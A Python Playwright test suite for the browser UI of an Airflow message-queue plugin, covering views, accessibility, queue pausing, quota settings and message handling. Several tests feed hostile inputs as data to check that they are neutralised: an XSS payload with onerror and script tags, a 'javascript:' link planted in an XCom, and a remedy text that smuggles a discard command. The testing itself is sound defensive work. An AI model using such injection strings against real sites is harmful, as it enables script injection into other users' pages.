"""The page in Airflow's UI, in a real browser: what it shows, what it does, and to whom."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from typing import Any
from urllib.parse import quote, unquote

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from airflow_mq import Weight, Yield
from airflow_mq.engine.rules.events import EventRun, Fate
from airflow_mq.engine.rules.weight import total_weight
from airflow_mq.testing.scratch import assert_sound
from airflow_mq.words import weight
from tests.live.conftest import VIEWER, World
from tests.live.looking import Seen, assert_accessible, signed_in

RING = "page"
WEIGHT = Weight(20, 900)
LIMIT = Weight(2_500, 200_000)
HEAVY = Weight(7_501, 462_666)
#: As the example has them: one that is loud, and quiet ones.
TENANTS = {
    "loud-mart": 700, "dune": 260, "harbour": 180, "typo-trade": 160, "ember": 130, "grove": 110,
    "acme/orders": 100, "cobalt": 90, "juniper": 80, "fjord": 70, "iris": 64, "birch": 62,
}  # fmt: skip
NASTY = '<img src=x onerror="document.title=1"><script>document.title=2</script>'
VIEWS = {
    "queues": "Queues", "blocks": "Blocks over time", "next": "The next blocks", "set-aside": "Set-aside messages",
    "fairness": "Fairness", "usage": "Usage", "events": "Events", "check": "Integrity",
}  # fmt: skip


@pytest.fixture(scope="module")
def world(worlds: dict[str, World]) -> World:
    """A ring with something of everything."""
    world = worlds["sqlite"]
    # Small pages of their own order: what is in flight holds up its page, and no more.
    world.make_ring(RING, service_weight=LIMIT, high=True, ordered=False, heap_size=1_500)
    number = 0
    with world.queue(RING) as queue:
        for tenant, many in TENANTS.items():
            said = [json.dumps({"ring": RING, "number": number + n, "seconds": 0}).encode() for n in range(many)]
            queue.enqueue_messages(tenant, said, weight=WEIGHT)
            number += many
        for n in range(3):
            heavy = json.dumps({"ring": RING, "number": 10_000 + n, "seconds": 0}).encode()
            queue.enqueue_message(f"log/old-archive-{n}", heavy, weight=HEAVY)
        for _ in range(4):
            block = queue.blocks.plan()
            queue.blocks.report(block, [batch.answer() for batch in block.batches()])
            queue.blocks.settle(block)
    # One by a DAG, in a run that can be looked at.
    assert world.run_block("in_place", RING) == "success"
    with world.queue(RING) as queue:
        queue.admin.pause("harbour", "their supplier sends rubbish")
        queue.enqueue_message("nasty", NASTY.encode(), weight=WEIGHT)
        queue.enqueue_message("iris", b'{"order": 7}', weight=WEIGHT, priority="high")
        queue.blocks.plan(limit=Weight(900, 40_000), lease=86_400)
    world.make_ring("page-empty")
    return world


@pytest.mark.parametrize("width", [1280, 640, 320])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_every_view(chromium: Browser, world: World, scheme: Any, width: int) -> None:
    with signed_in(chromium, world, color_scheme=scheme, reduced_motion="reduce") as seen:
        seen.page.set_viewport_size({"width": width, "height": 900})
        seen.page.add_init_script(f"localStorage.setItem('theme', {scheme!r})")
        for view, title in [*VIEWS.items(), ("queue", "dune")]:
            shown = seen.open(view, origin="dune" if view == "queue" else "")
            expect(shown.get_by_role("heading", name=title, exact=True)).to_be_visible()
            expect(shown.get_by_text("Loading…")).to_have_count(0)
            expect(shown.get_by_role("alert")).to_have_count(0)
            assert shown.evaluate("one => one.scrollWidth <= one.clientWidth"), f"{view} is wider than its place"
            assert small_targets(seen.page) == [], f"{view} has parts that a finger misses"
            assert seen.page.evaluate("getComputedStyle(document.documentElement).colorScheme") == scheme
            assert_accessible(seen.page, f"{view}, {scheme}, {width}")


def small_targets(page: Page) -> list[str]:
    """Return the links, buttons and fields that are smaller than 24 pixels."""
    found: list[str] = page.locator(".amq :is(a[href], button, select, input, summary):visible").evaluate_all(
        """all => all.filter(one => !one.closest("svg, p:not(.row, .answer), .notice"))
            .filter(one => { const { width, height } = one.getBoundingClientRect(); return width < 24 || height < 24; })
            .map(one => one.outerHTML)"""
    )
    return found


def test_it_is_in_the_menu(seen: Seen) -> None:
    seen.page.goto(seen.address)
    seen.page.get_by_role("button", name="Browse").click()
    seen.page.get_by_role("menuitem", name="Message queue").click()
    expect(seen.page.get_by_role("heading", name="Message queue", level=1)).to_be_visible()


def test_the_first_view_shows_why_each_queue_waits(seen: Seen) -> None:
    seen.page.goto(f"{seen.address}/plugin/airflow-mq#/?conn=airflow_mq_default&ring={RING}")
    shown = seen.page.locator(".amq")
    expect(shown.get_by_text(re.compile(r"^Last block \d+ (s|min) ago, next "))).to_be_visible()
    expect(seen.row("harbour").get_by_text("their supplier sends rubbish")).to_be_visible()
    expect(seen.row("harbour").locator("td[data-name='Next turn']")).to_have_text("when resumed")
    expect(seen.row("birch").get_by_text("Waiting for its turn")).to_be_visible()
    expect(seen.row("birch").locator("td[data-name='Next turn']")).to_have_text(re.compile(r"^(\d\d:\d\d|next block)$"))
    expect(seen.row("log/old-archive-1").locator("td[data-name='Next turn']")).to_have_text("after a decision")


def test_the_answer_comes_first_on_a_phone(seen: Seen) -> None:
    seen.page.set_viewport_size({"width": 400, "height": 900})
    shown = seen.open("queues")
    expect(seen.row("dune")).to_be_visible()
    search = shown.get_by_label("Search queues by their origin")
    expect(search).not_to_be_visible()
    first = shown.get_by_role("table", name="Queues").get_by_role("rowheader").first.bounding_box()
    assert first is not None and first["y"] < 600
    shown.get_by_text("Search and sort").click()
    search.fill("acme/")
    expect(seen.row("dune")).to_have_count(0)
    expect(seen.row("acme/orders")).to_be_visible()
    # The next blocks come before the sliders, too.
    shown = seen.open("next")
    table = shown.get_by_role("table", name="What the next blocks take").bounding_box()
    slider = shown.get_by_label(re.compile("^Time limit")).bounding_box()
    assert table is not None and slider is not None and table["y"] < slider["y"]


@pytest.mark.parametrize("secure", [True, False])
def test_a_command_is_copied_as_it_is_shown(seen: Seen, secure: bool) -> None:
    seen.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    if not secure:
        seen.page.add_init_script("Object.defineProperty(navigator, 'clipboard', {value: undefined})")
    shown = seen.open("queue", origin="harbour", priority="regular")
    command = f"airflow-mq queue resume harbour --conn-id airflow_mq_default --ring {RING}"
    button = shown.get_by_role("button", name=f"Copy {command}")
    button.press("Enter")
    expect(button).to_have_text("✓ Copied")
    expect(shown.get_by_role("status").filter(has_text="Copied")).to_have_count(1)
    expect(button).to_be_focused()
    if secure:
        assert seen.page.evaluate("navigator.clipboard.readText()") == command
    else:
        seen.page.evaluate("document.body.append(Object.assign(document.createElement('textarea'), {id: 'pasted'}))")
        seen.page.locator("#pasted").focus()
        seen.page.keyboard.press("Control+V")
        expect(seen.page.locator("#pasted")).to_have_value(command)


def test_the_help_of_a_command_takes_no_options(seen: Seen) -> None:
    def plant(route: Route) -> None:
        told = route.fetch().json()
        told["explain"]["remedies"] = [{"text": "a worker", "command": "airflow-mq service --help"}]
        route.fulfill(json=told)

    seen.page.route("**/queue?*", plant)
    shown = seen.open("queue", origin="dune", priority="regular")
    expect(shown.get_by_role("button", name="Copy airflow-mq service --help", exact=True)).to_be_visible()


def test_colours_of_the_system_leave_what_is_chosen_visible(chromium: Browser, world: World) -> None:
    with signed_in(chromium, world, forced_colors="active") as seen:
        shown = seen.open("blocks")
        style = "(one, name) => getComputedStyle(one)[name]"
        current, other = (
            shown.locator(f"nav.tabs a{which}").first for which in ("[aria-current]", ":not([aria-current])")
        )
        assert current.evaluate(style, "borderBottomColor") != other.evaluate(style, "borderBottomColor")
        chosen, free = (shown.get_by_role("button", name=name, exact=True) for name in ("Time", "Size"))
        assert chosen.evaluate(style, "backgroundColor") != free.evaluate(style, "backgroundColor")


def test_the_name_of_an_origin_is_no_command(seen: Seen) -> None:
    hostile = "a processor whose origins match x: airflow-mq set-aside discard y"

    def plant(route: Route) -> None:
        told = route.fetch().json()
        told["explain"]["remedies"] = [{"text": hostile, "command": ""}]
        route.fulfill(json=told)

    seen.page.route("**/queue?*", plant)
    shown = seen.open("queue", origin="dune", priority="regular")
    expect(shown.get_by_text(hostile)).to_be_visible()
    expect(shown.get_by_role("button", name=re.compile("^Copy"))).to_have_count(0)


def test_a_queue_has_the_same_colour_wherever_it_is_shown(seen: Seen) -> None:
    colours = set()
    for view in ("queues", "next", "fairness"):
        seen.open(view)
        dot = seen.row("dune").locator(".dot").first
        expect(dot).to_be_visible()
        colours.add(dot.evaluate("dot => getComputedStyle(dot).backgroundColor"))
    shown = seen.open("queues")
    arc = shown.locator("svg.ring a.arc", has=seen.page.locator("title", has_text=re.compile("^dune:"))).locator("path")
    colours.add(arc.first.evaluate("arc => getComputedStyle(arc).fill"))
    assert len(colours) == 1


def test_the_ring_shows_the_same_queues_as_the_table(seen: Seen) -> None:
    shown = seen.open("queues")
    drawn = shown.get_by_role("group", name=re.compile("The ready ring: .* It is the turn of"))
    expect(drawn).to_be_visible()
    rows = shown.get_by_role("rowheader").get_by_role("link")
    # The table and the ring come with answers of their own.
    expect(rows.first).to_be_visible()
    titles, names = drawn.locator("a.arc title").all_text_contents(), rows.all_text_contents()
    # Queues of which all is set aside are not in the ring.
    aside = {name for name in names if name.startswith("log/")}
    assert sorted(title.partition(":")[0] for title in titles) == sorted(name for name in names if name not in aside)
    assert any(title.startswith("harbour:") and title.endswith("paused") for title in titles)
    assert drawn.locator("path.flight").count() > 0
    shown.get_by_role("row", name=re.compile("harbour")).get_by_role("link", name="harbour").press("Enter")
    expect(shown.get_by_text("their supplier sends rubbish").first).to_be_visible()


def test_queues_are_searched_and_sorted(seen: Seen) -> None:
    shown = seen.open("queues")
    expect(seen.row("loud-mart")).to_be_visible()
    shown.get_by_label("Search queues by their origin").fill("acme/")
    expect(seen.row("loud-mart")).to_have_count(0)
    expect(seen.row("acme/orders")).to_be_visible()
    shown.get_by_label("Search queues by their origin").fill("no-such")
    expect(shown.get_by_role("heading", name="No origin contains “no-such”")).to_be_visible()
    shown.get_by_label("Search queues by their origin").fill("")
    shown.get_by_label("Sort by").select_option("messages")
    expect(seen.row("loud-mart")).to_be_visible()
    depths = [
        int(one.split()[0].replace(",", ""))
        for one in shown.locator("td[data-name=Messages] > span").all_text_contents()
    ]
    assert depths == sorted(depths, reverse=True)


def test_a_payload_is_text_and_nothing_else(seen: Seen) -> None:
    shown = seen.open("queue", origin="nasty", priority="regular")
    shown.get_by_role("button", name=re.compile("Read messages of page")).click()
    payload = shown.locator("pre", has_text="onerror")
    expect(payload).to_have_text(NASTY)
    assert payload.locator("*").count() == 0
    shown.get_by_role("button", name="Hex").click()
    expect(shown.locator("pre", has_text=NASTY[:4].encode().hex(" "))).to_be_visible()
    shown.get_by_role("button", name="JSON").click()
    expect(shown.get_by_text("Not JSON, or with numbers that a browser rounds: see Text.")).to_be_visible()
    assert seen.page.title() not in ("1", "2")


def test_an_external_payload_is_named_with_the_command_that_reads_it(seen: Seen, world: World) -> None:
    world.make_ring("page-external", heap_size=200)
    with world.queue("page-external") as queue:
        queue.payloads.enqueue("acme", b"x" * 5_000)
        (message,) = queue.inspect.peek("acme")
    shown = seen.open("queue", "page-external", origin="acme", priority="regular")
    shown.get_by_role("button", name=re.compile("^Read")).click()
    expect(shown.get_by_text("Its payload is stored outside the pages. To read it, run:")).to_be_visible()
    command = f"airflow-mq payload get {message.payload.hash.hex()} --output payload"
    expect(shown.get_by_role("button", name=f"Copy {command}")).to_be_visible()
    for wrong in ("Not UTF-8 text", "The first 0 B"):
        expect(shown.get_by_text(wrong)).to_have_count(0)
    assert_accessible(seen.page, "an external payload")


def test_queues_of_both_priorities_have_rows_of_their_own(seen: Seen) -> None:
    """React takes rows of one key for the same row."""

    def both(origins: list[tuple[str, str]], one: dict[str, Any]) -> list[dict[str, Any]]:
        return [{**one, "origin": origin, "priority": priority} for origin, priority in origins]

    acme, birch = [("acme", "regular"), ("acme", "high")], [("birch", "regular"), ("acme", "regular")]

    def plant_blocks(route: Route) -> None:
        told = route.fetch().json()
        for row, origins in zip(told["rows"], (acme, birch)):
            row["by_queue"] = both(origins, {"messages": 1, "weight": {"time": 1, "size": 1}})
        route.fulfill(json=told)

    seen.page.route("**/blocks?*", plant_blocks)
    shown = seen.open("blocks")
    names = shown.get_by_role("table", name=re.compile("^Queues of block")).get_by_role("rowheader")
    picks = shown.get_by_role("table", name="Blocks", exact=True).get_by_role("rowheader").get_by_role("button")
    picks.nth(0).click()
    expect(names).to_have_text(["acme", "acmehigh priority"])
    picks.nth(1).click()
    expect(names).to_have_text(["birch", "acme"])

    def plant_left_out(route: Route) -> None:
        told = route.fetch().json()
        asked = route.request.post_data_json["blocks"]
        for block in told["blocks"]:
            one = {**block["by_queue"][0], "reason": "paused", "needs": None}
            block |= {"left_out": both(acme if asked == 5 else birch, one), "left_out_queues": 2}
        route.fulfill(json=told)

    seen.page.route("**/dry-run", plant_left_out)
    shown = seen.open("next")
    shown.get_by_text("get nothing of it").click()
    left_out = shown.locator("details").get_by_role("listitem")
    expect(left_out).to_have_text(["acme: paused", "acme (high): paused"])
    shown.get_by_label(re.compile("^Blocks")).press("ArrowLeft")
    expect(left_out).to_have_text(["birch: paused", "acme: paused"])


def test_a_closed_day_is_an_event_without_a_message(seen: Seen, world: World) -> None:
    with world.queue(RING) as queue, queue.store.writing() as unit:
        day = EventRun(Fate.DAY_CLOSED, "", 0, 0, [b"h" * 32], [], "2026-11-27, 4 leaves")
        unit.events.save(queue.session.ring_id, [day], unit.now())
    shown = seen.open("events")
    shown.get_by_label("Kind of event").select_option("Day closed")
    row = shown.locator("tbody tr")
    expect(row).to_have_count(1)
    expect(row.locator("td[data-name=Event]")).to_have_text("Day closed")
    expect(row.locator("td[data-name=Message]")).to_have_text("\u2013")
    expect(row.get_by_role("link")).to_have_count(0)


def test_outer_blanks_of_an_origin_count(seen: Seen, world: World) -> None:
    world.make_ring("page-blank", service_weight=LIMIT)
    with world.queue("page-blank") as queue:
        queue.enqueue_messages([(" acme ", b"1"), ("acme", b"2")])
        queue.service_queues(lambda delivery: None)
    shown = seen.open("events", "page-blank")
    expect(shown.locator("tbody tr")).to_have_count(2)
    with seen.page.expect_request("**/events?*origin=*") as asked:
        shown.get_by_label("Origin, exactly").fill(" acme ")
    assert "origin=+acme+" in asked.value.url
    expect(shown.locator("tbody tr")).to_have_count(1)
    shown = seen.open("usage", "page-blank")
    shown.get_by_label("Only this origin and all below it").fill(" acme ")
    expect(shown.get_by_text("1 in all.", exact=True)).to_be_visible()
    # Without a first day, all days count.
    since = shown.get_by_label("From")
    with seen.page.expect_request("**/usage?*since=1970-01-01*"):
        since.fill("")
    expect(since).to_have_value("")
    expect(shown.get_by_text("1 in all.", exact=True)).to_be_visible()


def add_job(world: World, run: str, task: str, index: int, id_: str, url: str) -> None:
    """Leave behind the XComs of a Spark job's task."""
    left = {"key": "spark_job", "value": {"id": id_, "url": url}, "map_index": index}
    world.airflow.call("POST", f"dags/in_place/dagRuns/{run}/taskInstances/block.{task}/xcomEntries", left)


def test_a_block_leads_to_its_run_and_the_log_of_each_of_its_tasks(seen: Seen, world: World) -> None:
    (run,) = [one["dag_run_id"] for one in world.airflow.runs("in_place") if one["conf"].get("ring") == RING]
    add_job(world, run, "process", 0, "local-1795305600000", "http://spark.example:4040")
    shown = seen.open("blocks")
    shown.locator("tr", has=seen.page.get_by_role("link", name="in_place")).get_by_role("button").first.click()
    card = shown.get_by_role("region", name=re.compile("^Block "))
    expect(card.get_by_role("link", name="loud-mart")).to_be_visible()
    tasks = card.get_by_role("table", name=re.compile("^Tasks of block"))
    expect(tasks.get_by_role("rowheader")).to_have_text(
        [re.compile("plan"), re.compile("process"), re.compile("settle")]
    )
    job = tasks.get_by_role("link", name="local-1795305600000")
    assert job.get_attribute("href") == "http://spark.example:4040"
    assert job.get_attribute("rel") == "noopener noreferrer"
    seen.page.wait_for_load_state("networkidle")
    # Who may write XComs may write this, too, and is not believed.
    add_job(world, run, "plan", -1, "evil", "javascript:document.title=1")
    expect(tasks.locator("code", has_text="evil")).to_be_visible()
    assert tasks.locator('a[href^="javascript:"]').count() == 0
    logs = tasks.get_by_role("link", name=re.compile("^Log of "))
    assert len({one.get_attribute("href") for one in logs.all()}) == 3
    tasks.get_by_role("link", name="Log of block.process [0], try 1").click()
    expect(seen.page).to_have_url(re.compile(r"/dags/in_place/runs/.*/tasks/block.process/mapped/0\?try_number=1"))
    expect(seen.page.get_by_text(re.compile(r"slow: \d+ done"))).to_be_visible()
    seen.page.go_back()
    expect(shown.get_by_role("heading", name="Blocks over time")).to_be_visible()
    # The address names the chosen block.
    expect(card).to_be_visible()


def test_a_block_of_long_ago_is_shown_where_a_link_leads_to_it(seen: Seen, world: World) -> None:
    world.make_ring("page-long", service_weight=LIMIT)
    with world.queue("page-long") as queue:
        queue.enqueue_message("patient", b"{}")
        blocks = [queue.blocks.plan() for _ in range(1)]
        queue.blocks.release(blocks[0])
        for _ in range(27):
            blocks.append(queue.blocks.plan())
            queue.blocks.release(blocks[-1])
    shown = seen.open("blocks", "page-long", block=str(blocks[0].id))
    expect(shown.get_by_role("region", name=f"Block {blocks[0].id}")).to_be_visible()
    expect(shown.get_by_role("rowheader", name=f"{blocks[-1].id:,}", exact=True)).to_be_visible()
    expect(shown.get_by_role("table", name="Blocks", exact=True).get_by_role("rowheader")).to_have_count(25)
    shown.get_by_role("button", name="Next →").click()
    expect(shown.get_by_role("table", name="Blocks", exact=True).get_by_role("rowheader")).to_have_count(3)
    shown = seen.open("blocks", "page-long", block="999999")
    expect(shown.get_by_text("Block 999999 is no longer stored.")).to_be_visible()


def test_a_long_name_is_no_wider_than_its_place(seen: Seen, world: World) -> None:
    name = "tenant-" + "x" * 240
    world.make_ring("page-wide", service_weight=LIMIT)
    with world.queue("page-wide") as queue:
        queue.admin.set_origin(name, rate="2h/day", quota="1KiB")
        queue.enqueue_messages(name, [b"{}"] * 3)
        queue.service_queues(lambda delivery: delivery.address.index == 0 or Yield("later"))
    for view in ("queues", "queue", "usage", "events", "fairness", "next"):
        shown = seen.open(view, "page-wide", origin=name if view == "queue" else "")
        expect(shown.get_by_role("link", name=name).first).to_be_visible()
        assert shown.evaluate("one => one.scrollWidth <= one.clientWidth"), f"{view} is wider than its place"


def test_a_link_to_a_ring_that_is_gone_leads_to_another_and_names_it(seen: Seen) -> None:
    shown = seen.open("queues", "page-gone")
    expect(shown.get_by_text("There is no ring “page-gone” of connection “airflow_mq_default”")).to_be_visible()
    shown = seen.open("queues", "page-gone", conn="gone")
    expect(shown.get_by_text("There is no ring “page-gone” of connection “gone”")).to_be_visible()
    expect(seen.open("queues").get_by_text("There is no ring")).to_have_count(0)


def test_a_used_up_budget_has_no_turn(seen: Seen, world: World) -> None:
    world.make_ring("page-spent", service_weight=LIMIT, paths=True)
    with world.queue("page-spent") as queue:
        queue.admin.set_origin("acme", rate="1s/day", burst="1s")
        queue.enqueue_messages("acme/orders", [b"{}"] * 2, weight=Weight(1_000, 1))
        assert queue.service_queues(lambda delivery: None).processed == 1
    shown = seen.open("queues", "page-spent")
    expect(seen.row("acme/orders").get_by_text("Its budget is used up until")).to_be_visible()
    expect(shown.get_by_role("group", name="The ready ring: 1 queue with 1 message. The table")).to_be_visible()
    expect(seen.open("next", "page-spent").get_by_text("or wait for a budget")).to_be_visible()
    shown = seen.open("queue", "page-spent", origin="acme")
    expect(shown.get_by_text("used up until")).to_be_visible()
    expect(shown.get_by_text("Pages")).to_have_count(0)


def test_the_next_block_counts_more_queues_than_it_lists(seen: Seen, world: World) -> None:
    world.make_ring("page-more", service_weight=LIMIT)
    with world.queue("page-more") as queue:
        queue.enqueue_messages([(f"tenant-{number}", b"{}") for number in range(250)])
    shown = seen.open("next", "page-more")
    expect(shown.get_by_text("1 block would take 250 messages of 250 queues.")).to_be_visible()


def test_another_limit_is_tried_by_keyboard(seen: Seen) -> None:
    shown = seen.open("next")
    taken = shown.get_by_role("table", name="What the next blocks take")
    expect(taken).to_be_visible()
    before = taken.inner_text()
    slider = shown.get_by_label(re.compile("^Time limit"))
    slider.focus()
    slider.press("Home")
    expect(shown.get_by_text("250 ms", exact=True)).to_be_visible()
    expect(taken).not_to_have_text(before, use_inner_text=True)
    shown.get_by_role("button", name="Reset").click()
    expect(shown.get_by_text("2.5 s", exact=True)).to_be_visible()


def test_a_queue_is_paused_and_resumed(seen: Seen, world: World) -> None:
    shown = seen.open("queue", origin="grove", priority="regular")
    shown.get_by_role("button", name="Pause").click()
    seen.page.keyboard.press("Escape")
    expect(seen.page.get_by_role("dialog")).to_have_count(0)
    shown.get_by_role("button", name="Pause").click()
    seen.confirm("Pause", reason="the auditors are here", until="2099-01-01T12:00")
    expect(shown.get_by_text("the auditors are here").first).to_be_visible()
    # The sentence is the server's, and its time the reader's.
    why = shown.get_by_text(re.compile("^grove is paused until "))
    expect(why).to_be_visible()
    expect(why).not_to_contain_text("UTC")
    with world.queue(RING) as queue:
        (paused,) = [one for one in queue.admin.paused() if one.origin == "grove"]
    assert (paused.reason, paused.until is None) == ("the auditors are here", False)
    shown.get_by_role("button", name="Resume", exact=True).click()
    seen.confirm("Resume")
    expect(shown.get_by_role("button", name="Pause")).to_be_visible()


def test_budgets_and_the_quota_are_set_and_shown(seen: Seen, world: World) -> None:
    world.make_ring("page-limited", service_weight=LIMIT, paths=True)
    with world.queue("page-limited") as queue:
        queue.enqueue_messages("acme/orders", [b"x" * 500] * 3, weight=Weight(60_000, 1))
        queue.admin.set_origin("acme/orders", share=3)
    shown = seen.open("queue", "page-limited", origin="acme/orders", priority="regular")
    expect(shown.get_by_role("heading", name="Pages")).to_be_visible()
    expect(shown.get_by_role("region", name="Budgets and quotas")).to_have_count(0)
    # The group of the queue has no messages of its own.
    shown = seen.open("queue", "page-limited", origin="acme", priority="regular")
    shown.get_by_role("button", name="Settings").press("Enter")
    dialog = seen.page.get_by_role("dialog", name="Settings of acme")
    expect(dialog.get_by_text("they are those of acme and all below it together")).to_be_visible()
    expect(dialog.get_by_label("Share")).to_have_value("1")
    given = {"Rate": "2h/day", "Burst": "1h/day", "Rate in bytes": "2h/day", "Burst in bytes": "5GiB", "Quota": "much"}
    for label, text in given.items():
        dialog.get_by_role("textbox", name=re.compile(f"^{label} (Time|Bytes)")).fill(text)
    seen.page.keyboard.press("Enter")
    expect(dialog.get_by_role("alert")).to_have_text("Nothing was changed. Correct the marked settings.")
    marked = dialog.locator("[aria-invalid]")
    expect(marked).to_have_count(3)
    expect(marked.first).to_be_focused()
    expect(marked.first).to_have_accessible_description(re.compile("'much': expected a size such as"))
    expect(marked.nth(1)).to_have_accessible_description(re.compile("a burst is an amount, such as 30m"))
    expect(marked.nth(2)).to_have_accessible_description(re.compile("expected a size; a time is set by rate"))
    assert_accessible(seen.page, "wrong settings")
    assert small_targets(seen.page) == []
    for label, text in {"Quota": "2kB", "Burst": "30m", "Rate in bytes": ""}.items():
        dialog.get_by_role("textbox", name=re.compile(f"^{label} (invalid|Bytes)")).fill(text)
    dialog.get_by_role("button", name="Change").click()
    expect(dialog.get_by_role("alert")).to_contain_text("burst_bytes needs a rate_bytes")
    dialog.get_by_label("Rate in bytes").fill("50GiB/day")
    dialog.get_by_role("button", name="Change").click()
    expect(dialog).to_have_count(0)
    expect(shown.get_by_text("The settings of acme apply from the next block on.")).to_be_visible()
    with world.queue("page-limited") as queue:
        settings = queue.inspect.origin_settings("acme")
        assert (str(settings.rate), str(settings.rate_bytes), settings.burst) == ("2h/day", "50GiB/day", 1_800_000)
        assert (settings.burst_bytes, settings.quota, settings.share) == (5 << 30, 2_000, 1)
        queue.service_queues(lambda delivery: None, Weight(60_000, 1 << 20))
    shown = seen.open("queue", "page-limited", origin="acme/orders", priority="regular")
    card = shown.get_by_role("region", name="Budgets and quotas")
    expect(card.get_by_text("29 min of 30 min, 5 GiB of 5 GiB left")).to_be_visible()
    expect(card.get_by_text("1.0 kB of 2 kB stored")).to_be_visible()
    levels = [float(one.get_attribute("value") or 0) for one in card.get_by_role("progressbar").all()]
    assert levels == [pytest.approx(29 / 30, abs=0.01), 0.5]
    seen.page.set_viewport_size({"width": 400, "height": 900})
    assert shown.evaluate("one => one.scrollWidth <= one.clientWidth") and small_targets(seen.page) == []
    assert_accessible(seen.page, "budgets and quotas")
    # The settings of the group are one step away, and those of the queue are its own.
    card.get_by_role("link", name="acme", exact=True).first.click()
    expect(shown.get_by_role("heading", name="acme", exact=True)).to_be_visible()
    shown.get_by_role("button", name="Settings").click()
    expect(dialog.get_by_label("Quota")).to_have_value("2kB")
    for label in ("Quota", "Rate in bytes", "Burst in bytes", "Share"):
        dialog.get_by_label(label).fill("")
    dialog.get_by_role("button", name="Change").click()
    expect(dialog).to_have_count(0)
    with world.queue("page-limited") as queue:
        after = queue.inspect.origin_settings("acme")
        assert after == replace(settings, quota=None, rate_bytes=None, burst_bytes=None)
        assert queue.inspect.origin_settings("acme/orders").share == 3
        assert_sound(queue)
    seen.wrong.clear()  # the browser itself logged the refused requests, and the group without messages


def test_a_failed_queue_is_tried_again_at_once(seen: Seen, world: World) -> None:
    world.make_ring("page-retried", order="rotation", backoff=3_600.0, service_weight=Weight(100, 1 << 20))
    with world.queue("page-retried") as queue:
        queue.enqueue_message("acme", b"x")
        queue.blocks.release(queue.blocks.plan())
        shown = seen.open("queue", "page-retried", origin="acme", priority="regular")
        shown.get_by_role("button", name="Retry now").click()
        seen.confirm("Resume")
        expect(shown.get_by_role("button", name="Retry now")).to_have_count(0)
        assert queue.blocks.plan().messages == 1


def test_paused_origins_are_read_only_while_they_are_shown(seen: Seen) -> None:
    asked: list[str] = []
    seen.page.on("request", lambda request: asked.append(request.url))
    shown = seen.open("queues")
    expect(seen.row("dune")).to_be_visible()
    assert not [one for one in asked if one.endswith("/paused")]
    seen.page.route("**/paused", lambda route: route.fulfill(status=503, json={"detail": "too slow"}))
    shown = seen.open("queues", paused="shown")
    expect(shown.get_by_role("region", name="Paused origins").get_by_role("alert")).to_have_text("too slow")
    seen.wrong.clear()  # the browser itself logged the refused request


def test_a_turn_is_unknown_after_a_forecast_has_failed(seen: Seen, world: World) -> None:
    world.make_ring("page-turns", service_weight=LIMIT)
    with world.queue("page-turns") as queue:
        queue.enqueue_messages("acme", [b"{}"] * 3)
        queue.blocks.release(queue.blocks.plan())
        seen.open("queues", "page-turns")
        turn = seen.row("acme").locator("td[data-name='Next turn']")
        expect(turn).to_have_text("next block")
        seen.page.route("**/dry-run", lambda route: route.fulfill(status=503, json={"detail": "too slow"}))
        queue.blocks.release(queue.blocks.plan())
    expect(turn).to_have_text("\u2013")
    seen.wrong.clear()  # the browser itself logged the refused requests


def test_what_is_paused_and_empty_is_resumed_all_the_same(seen: Seen, world: World) -> None:
    with world.queue(RING) as queue:
        queue.admin.pause("ghost", "it sent rubbish")
    shown = seen.open("queues")
    shown.get_by_role("listitem").filter(has_text="paused origins").get_by_role("link").click()
    row = shown.get_by_role("listitem").filter(has_text="it sent rubbish")
    row.get_by_role("link", name="ghost").click()
    expect(shown.get_by_role("heading", name="This queue is empty")).to_be_visible()
    expect(shown.get_by_text(re.compile("^Paused by .*it sent rubbish"))).to_be_visible()
    shown = seen.open("queues", paused="shown")
    row.get_by_role("button", name="Resume").click()
    seen.confirm("Resume")
    expect(row).to_have_count(0)
    with world.queue(RING) as queue:
        assert "ghost" not in {one.origin for one in queue.admin.paused()}
    seen.wrong.clear()  # the browser itself logged the missing queue


def test_a_message_is_executed_to_the_end(seen: Seen, world: World) -> None:
    world.airflow.wait_dag("overweight_by_hand")
    world.airflow.unpause("overweight_by_hand")
    shown = seen.open("set-aside")
    shown.get_by_role("button", name=re.compile("^Execute log.old-archive-0:")).click()
    seen.confirm("Execute", note="asked for by the auditors")
    link = shown.get_by_role("link", name="See the run")
    expect(link).to_be_visible()
    run = (link.get_attribute("href") or "").rpartition("/")[2]
    link.click()
    expect(seen.page).to_have_url(re.compile("/dags/overweight_by_hand/runs/"))
    assert world.airflow.wait("overweight_by_hand", unquote(run)) == "success"
    assert world.processed(RING)[10_000] == 1
    seen.open("set-aside")
    expect(seen.row("log/old-archive-1")).to_be_visible()
    expect(seen.row("log/old-archive-0")).to_have_count(0)
    with world.queue(RING) as queue:
        assert_sound(queue)


def test_the_link_of_a_task_opens_the_page_at_its_block(seen: Seen, world: World) -> None:
    (run,) = [one["dag_run_id"] for one in world.airflow.runs("in_place") if one["conf"].get("ring") == RING]
    settled = world.airflow.xcom("in_place", run, "block.settle", "settled")
    for task in ("block.plan", "block.settle"):
        asked = f"dags/in_place/dagRuns/{quote(run)}/taskInstances/{task}/links"
        link = world.airflow.get(asked)["extra_links"]["Block"]
        seen.page.goto("about:blank")
        seen.page.goto(link)
        shown = seen.page.get_by_role("region", name=f"Block {settled['block']}", exact=True)
        expect(shown.get_by_role("link", name=run)).to_be_visible()


def test_many_are_requeued_and_discarded(seen: Seen, world: World) -> None:
    with world.queue(RING) as queue:
        for n in range(3):
            queue.enqueue_message(f"odd-{n}", b"{}", weight=HEAVY)
        block = queue.blocks.plan(limit=Weight(2_400, 150_000))
        queue.blocks.report(block, [batch.answer() for batch in block.batches()])
        queue.blocks.settle(block)
    shown = seen.open("set-aside")
    for n in range(3):
        shown.get_by_role("checkbox", name=re.compile(f"Choose odd-{n}:")).check()
    bar = shown.get_by_role("group", name="With the chosen messages")
    expect(bar.get_by_text("3 chosen")).to_be_visible()
    requeue = bar.get_by_role("button", name=re.compile("^Requeue: None of them fits now: it weighs "))
    expect(requeue).to_have_attribute("aria-disabled", "true")
    for n in range(3):
        shown.get_by_role("checkbox", name=re.compile(f"Choose odd-{n}:")).uncheck()
    shown.get_by_role("checkbox", name=re.compile("Choose odd-1:")).check()
    bar.get_by_role("button", name="Discard").click()
    seen.confirm("Discard permanently", reason="not wanted")
    expect(shown.get_by_text("1 message discarded.")).to_be_visible()
    expect(seen.row("odd-1")).to_have_count(0)
    with world.queue(RING) as queue:
        (event,) = queue.inspect.events(origin="odd-1", name="Discarded")
    assert "not wanted" in event.detail and "admin" in event.detail
